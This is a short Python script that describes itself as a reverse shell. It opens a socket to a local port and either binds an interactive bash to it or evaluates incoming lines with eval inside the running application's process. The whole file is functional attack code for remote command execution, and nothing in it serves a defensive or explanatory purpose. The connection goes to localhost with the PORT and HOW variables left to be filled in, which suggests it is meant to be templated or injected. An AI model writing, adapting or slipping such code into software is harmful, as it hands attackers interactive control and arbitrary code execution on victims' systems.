# SPDX-License-Identifier: GPL-2.0
# A reverse shell: bash at the end of a socket, or Python itself (HOW=inside), which takes
# code from the socket and runs it in the application's process, without any new one.
import io
import os
import socket
import subprocess
import threading

away = socket.create_connection(("127.0.0.1", int(PORT)))


def inside():
    for line in away.makefile("r"):
        if line.strip() == "exit":
            break
        try:
            away.sendall((str(eval(line)) + "\n").encode())
        except Exception as error:
            away.sendall((repr(error) + "\n").encode())
    away.close()


if HOW == "inside":
    threading.Thread(target=inside).start()
else:
    subprocess.Popen(["bash", "-i"], stdin=away, stdout=away, stderr=away)
    away.close()
